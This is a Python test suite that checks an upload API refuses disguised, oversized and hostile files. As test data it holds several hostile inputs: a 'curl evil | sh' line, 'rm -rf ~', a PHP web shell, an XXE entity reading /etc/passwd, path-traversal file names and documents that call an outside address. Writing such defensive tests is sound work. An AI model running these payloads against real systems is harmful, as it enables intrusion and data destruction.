"""Attacks by files on a whole installation, over HTTP: each is refused in a sentence, and costs next to nothing."""

import asyncio
import json
import re
import time
from collections.abc import AsyncGenerator, AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import httpx
import pytest
import pytest_asyncio
from tests.intake.test_archives import ATTACKS, DOCUMENT, ENTITIES, REASONS, make_zip
from tests.intake.test_documents import make_docx
from tests.integration.pouring import heard, poured, zeros
from tests.integration.sites import API, Site, bearer
from tests.pdfs import make_pdf
from tests.servers import answering

from tesigo.entry.api import make_app

pytestmark = pytest.mark.asyncio(loop_scope="module")

PDF = make_pdf([(18, "How bees find their way"), "Bees find the clover of a meadow by its smell."])
DOCX = make_docx(("Title", "How bees find their way"), ("Normal", "Bees find the clover by its smell."))
GIB = 1 << 30
PATIENCE_S = 30
"""How long the application waits for a body of which nothing comes; see `kit.request_limits`."""


@pytest_asyncio.fixture(loop_scope="module")
async def headers(site: Site) -> dict[str, str]:
    return bearer(await site.enter())


async def address_of(site: Site, headers: dict[str, str]) -> str:
    made = await site.client.post(f"{API}/documents", json={"title": "Essays"}, headers=headers)
    assert made.status_code == 201, made.text
    return f"{API}/documents/{made.json()['id']}/sources"


async def send(site: Site, headers: dict[str, str], name: str, content: bytes) -> httpx.Response:
    address = await address_of(site, headers)
    return await site.client.post(address, files={"file": (name, content)}, headers=headers)


def check_refused(answer: httpx.Response, code: str, words: str) -> None:
    """Check that this is a refusal that somebody can act on, and that tells nothing of the inside."""
    assert 400 <= answer.status_code < 500, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    told = answer.json()
    assert told["code"] == code, told
    assert re.search(words, told["detail"]), told
    assert re.fullmatch(r"[A-Z].{20,}\.", told["detail"])
    assert "/" not in told["detail"]


# what is let in


@pytest.mark.parametrize(("name", "content"), [("bees.pdf", PDF), ("bees.docx", DOCX)])
async def test_a_whole_document_is_taken(site: Site, headers, name, content):
    answer = await send(site, headers, name, content)
    assert answer.status_code == 201, answer.text
    (item,) = answer.json()["items"]
    assert (item["csl"]["title"], item["has_full_text"]) == ("How bees find their way", True)


@pytest.mark.parametrize(
    "name",
    [
        "openjournals__10.21105.jose.00090.pdf",
        "scieloorg__2318-0889-tinf-33-e200057.pdf",
        "derived__it_tech.docx",
        "jgm__german_styled_lists.docx",
        "derived__uk_cp1251.txt",
    ],
)
async def test_real_documents_are_taken(site: Site, headers, shared_data: Path, name):
    answer = await send(site, headers, name, (shared_data / "uploads" / "files" / name).read_bytes())
    assert answer.status_code == 201, answer.text
    assert answer.json()["items"][0]["has_full_text"]


# what is not what it says


FAKES: dict[str, tuple[str, bytes, str, str]] = {
    "a text under the name of a PDF": ("a.pdf", b"This is no PDF at all.", "mismatched_name", "plain text"),
    "a PDF without a body": ("a.pdf", b"%PDF-1.7\n", "broken_file", "damaged"),
    "a Windows program": ("a.exe", b"MZ\x90\x00" + bytes(400), "unsupported_file", "Windows program"),
    "a Windows program as PDF": ("a.pdf", b"MZ\x90\x00" + bytes(400), "unsupported_file", "Windows program"),
    "a Linux program": ("a.docx", b"\x7fELF\x02\x01\x01" + bytes(400), "unsupported_file", "Linux program"),
    "a script": ("a.sh", b"#!/bin/sh\ncurl evil | sh\n", "unsupported_file", "script"),
    "a script as text": ("a.txt", b"#!/bin/bash\nrm -rf ~\n", "unsupported_file", "script"),
    "PHP": ("a.php", b"<?php system($_GET['c']); ?>", "unsupported_file", "script"),
    "PHP as text": ("a.txt", b"\xef\xbb\xbf<?php system(1);", "unsupported_file", "script"),
    "a web page": (
        "a.html",
        b"<!doctype html><script>alert(1)</script>",
        "unsupported_file",
        "web page",
    ),
    "XML with entities": ("a.xml", b'<?xml version="1.0"?>' + ENTITIES, "unsupported_file", "XML"),
    "an archive": ("a.zip", make_zip({"photo.jpg": b"x"}), "mismatched_name|unsupported_file", "ZIP archive"),
    "a PDF with an archive in its tail": (
        "a.pdf",
        PDF + make_zip(DOCUMENT),
        "dangerous_file",
        "PDF and an archive",
    ),
    "an archive with a PDF in its head": (
        "a.docx",
        make_zip({"a": PDF, **DOCUMENT}, 0),
        "dangerous_file",
        "archive and a PDF",
    ),
    "an image with a PDF in it": ("a.pdf", b"GIF89a\x00" + PDF, "unsupported_file", "image"),
    "nothing": ("a.pdf", b"", "no_text", "empty"),
    "a name of a program": ("a.exe", b"Only words stand here.", "mismatched_name", "plain text"),
}


@pytest.mark.parametrize("fake", FAKES)
async def test_what_is_not_what_it_says_is_refused(site: Site, headers, fake):
    name, content, code, words = FAKES[fake]
    answer = await send(site, headers, name, content)
    check_refused(answer, answer.json()["code"], words)
    assert re.fullmatch(code, answer.json()["code"])


@pytest.mark.parametrize("attack", ATTACKS)
async def test_an_archive_that_is_built_to_harm_is_refused_at_once(site: Site, headers, attack):
    address = await address_of(site, headers)
    content = ATTACKS[attack]()
    began_s = time.process_time()
    answer = await site.client.post(address, files={"file": ("a.docx", content)}, headers=headers)
    assert time.process_time() - began_s < 1
    check_refused(answer, "dangerous_file", REASONS[attack])
    listed = await site.client.get(address, headers=headers)
    assert listed.json()["items"] == []


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("apache__bug53475-password-is-pass.docx", "encrypted_file"),
        ("pdfminer__rc4-40.pdf", "encrypted_file"),
        ("apache__testWORD_macros.docm", "dangerous_file"),
        ("apache__testOCR.pdf", "no_text"),
        ("mozilla__poppler-937-0-fuzzed.pdf", "broken_file"),
        ("derived__docx_named.pdf", "mismatched_name"),
    ],
)
async def test_real_files_are_refused_for_their_reason(site: Site, headers, shared_data: Path, name, code):
    answer = await send(site, headers, name, (shared_data / "uploads" / "files" / name).read_bytes())
    check_refused(answer, code, r"\w+")


HOSTILE_NAMES = ("../../etc/passwd", "a\x00.pdf", "<script>.md", "CON", "x" * 5_000, "\u202efdp.exe", "")


@pytest.mark.parametrize("name", HOSTILE_NAMES)
async def test_a_name_is_a_label_and_leads_nowhere(site: Site, headers, name):
    before = {path for path in site.house.settings.data_dir.rglob("*") if path.suffix != ".eml"}
    answer = await send(site, headers, name, b"# Bees\n\nBees find the clover by its smell.\n")
    assert answer.status_code in (201, 400, 415, 422), answer.text
    after = {path for path in site.house.settings.data_dir.rglob("*") if path.suffix != ".eml"}
    assert after == before


# what would call out


@asynccontextmanager
async def listening() -> AsyncIterator[tuple[str, list[bytes]]]:
    """Give an address, and what is asked there."""
    asked: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(await reader.read(1_000))
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", asked


def docx_with(address: str) -> bytes:
    """Return a document that names the address wherever Word follows one: picture, template, frame, stylesheet."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    linked = "".join(
        f'<Relationship Id="x{place}" Type="{office}/{kind}" Target="{address}/{kind}" TargetMode="External"/>'
        for place, kind in enumerate(
            ("image", "attachedTemplate", "frame", "aFChunk", "hyperlink", "oleObject")
        )
    )
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    body = (
        f'<w:document xmlns:w="{word}" xmlns:r="{office}" xmlns:a="{drawing}/main"><w:body>'
        "<w:p><w:r><w:t>Bees find the clover of a meadow by its smell.</w:t></w:r></w:p>"
        f'<w:p><w:r><w:drawing><a:blip r:link="x0"/></w:drawing></w:r></w:p><w:altChunk r:id="x3"/>'
        f'<w:p><w:r><w:instrText> INCLUDEPICTURE "{address}/field" </w:instrText></w:r></w:p>'
        "</w:body></w:document>"
    )
    package = "http://schemas.openxmlformats.org/package/2006"
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return make_zip(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
            f'ContentType="{main}"/></Types>'.encode(),
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
            "word/_rels/document.xml.rels": (
                f'<Relationships xmlns="{package}/relationships">{linked}</Relationships>'.encode()
            ),
            "word/document.xml": body.encode(),
        }
    )


def pdf_with(address: str) -> bytes:
    actions = (
        f"90 0 obj\n<< /Type /Action /S /URI /URI ({address}/uri) >>\nendobj\n"
        f"91 0 obj\n<< /Type /Filespec /FS /URL /F ({address}/file) >>\nendobj\n"
        f"92 0 obj\n<< /S /JavaScript /JS (app.launchURL\\('{address}/js'\\)) >>\nendobj\n"
    )
    return make_pdf(["Bees find the clover of a meadow by its smell."], more=actions.encode())


CALLING: dict[str, Callable[[str], bytes]] = {
    "a.docx": docx_with,
    "a.pdf": pdf_with,
    "a.md": lambda address: f"# Bees\n\n![a]({address}/a.png) <img src='{address}/b'> smell.".encode(),
    "a.bib": lambda address: (
        f"@book{{a, title={{Bees}}, url={{{address}/u}}, file={{{address}/f}}}}".encode()
    ),
    "a.json": lambda address: json.dumps([{"title": "Bees", "type": "book", "URL": f"{address}/j"}]).encode(),
}


@pytest.mark.parametrize("name", CALLING)
async def test_nothing_that_a_file_names_is_fetched(site: Site, headers, name):
    async with listening() as (address, asked):
        answer = await send(site, headers, name, CALLING[name](address))
        assert answer.status_code == 201, answer.text
        document = (await site.client.get(f"{API}/documents", headers=headers)).json()["items"][0]["id"]
        key = answer.json()["items"][0]["key"]
        text = {"content": f"# Bees\n\nSo it is [@{key}]. ![picture]({address}/written.png)\n"}
        put = await site.client.put(f"{API}/documents/{document}", json=text, headers=headers)
        assert put.status_code == 200, put.text
        for kind in ("docx", "pdf"):
            exported = await site.client.get(
                f"{API}/documents/{document}/export?format={kind}", headers=headers
            )
            assert exported.status_code == 200, exported.text
        assert asked == []


async def test_entities_of_files_are_not_opened(site: Site, headers):
    xml = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
    answer = await send(site, headers, "a.docx", make_zip(DOCUMENT | {"word/document.xml": xml}))
    check_refused(answer, "dangerous_file", "entities")


# what has no end


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def served(site: Site) -> AsyncIterator[str]:
    """Serve the installation on a socket, as a person does."""
    async with answering(make_app(site.house), lifespan="off") as address:
        yield address


def most_mb() -> int:
    return int(re.search(r"VmHWM:\s+(\d+) kB", Path("/proc/self/status").read_text())[1]) >> 10


def forget_most() -> int:
    """Begin to measure the most memory of this process anew; return what it has now, in MB."""
    Path("/proc/self/clear_refs").write_text("5", "ascii")
    return most_mb()


FORM_HEAD = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.7\n'


async def test_ten_announced_gigabytes_are_refused_before_a_byte_of_them(site: Site, headers, served):
    address = f"{served}{await address_of(site, headers)}"
    sent = {**headers, "Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(10 * GIB)}

    async def nothing() -> AsyncGenerator[bytes, None]:
        return
        yield b""

    began_s = time.monotonic()
    answer, _ = await poured(address, sent, b"", nothing())
    assert answer.startswith(b"HTTP/1.1 413"), answer
    assert b'"code":"too_large"' in answer
    assert time.monotonic() - began_s < 5


async def test_ten_gigabytes_of_nothing_are_cut_off_early_and_take_no_memory(
    site: Site, headers, served, tmp_path
):
    address = f"{served}{await address_of(site, headers)}"
    head = b"%x\r\n%s\r\n" % (len(FORM_HEAD), FORM_HEAD)
    sent = {**headers, "Content-Type": "multipart/form-data; boundary=b", "Transfer-Encoding": "chunked"}
    before = forget_most()
    answer, sent_bytes = await heard(
        lambda: poured(address, sent, head, zeros(10 * GIB, tmp_path / "sparse"))
    )
    assert answer.startswith(b"HTTP/1.1 413"), answer
    assert b'"code":"too_large"' in answer
    most_mib = site.house.settings.max_upload_mb
    assert sent_bytes < (most_mib + 32) << 20
    assert most_mb() - before < 4 * most_mib


async def test_a_stranger_cannot_bring_anything_at_all(site: Site, served, tmp_path):
    head = b"%x\r\n%s\r\n" % (len(FORM_HEAD), FORM_HEAD)
    sent = {"Content-Type": "multipart/form-data; boundary=b", "Transfer-Encoding": "chunked"}
    url = f"{served}{API}/documents/1/sources"
    answer, sent_bytes = await heard(lambda: poured(url, sent, head, zeros(10 * GIB, tmp_path / "sparse")))
    assert answer.startswith(b"HTTP/1.1 401"), answer
    assert sent_bytes < 32 << 20


@pytest.mark.breakdown
async def test_slow_uploads_hold_nobody_up_and_end(site: Site, headers, served):
    address = f"{served}{await address_of(site, headers)}"
    sent = {**headers, "Content-Type": "multipart/form-data; boundary=b", "Content-Length": "1000000"}

    async def drops() -> AsyncGenerator[bytes, None]:
        while True:
            await asyncio.sleep(1)
            yield b"x"

    began_s = time.monotonic()
    slow = [asyncio.create_task(poured(address, sent, FORM_HEAD, drops())) for _ in range(20)]
    await asyncio.sleep(1)
    for _ in range(5):  # somebody else meanwhile
        asked_s = time.monotonic()
        answer = await send(site, headers, "bees.pdf", PDF)
        assert answer.status_code == 201, answer.text
        assert time.monotonic() - asked_s < 5
    answers = await asyncio.gather(*slow)
    assert PATIENCE_S - 1 < time.monotonic() - began_s < PATIENCE_S + 10
    for told, _ in answers:
        assert told.startswith(b"HTTP/1.1 408"), told
        assert b'"code":"too_slow"' in told
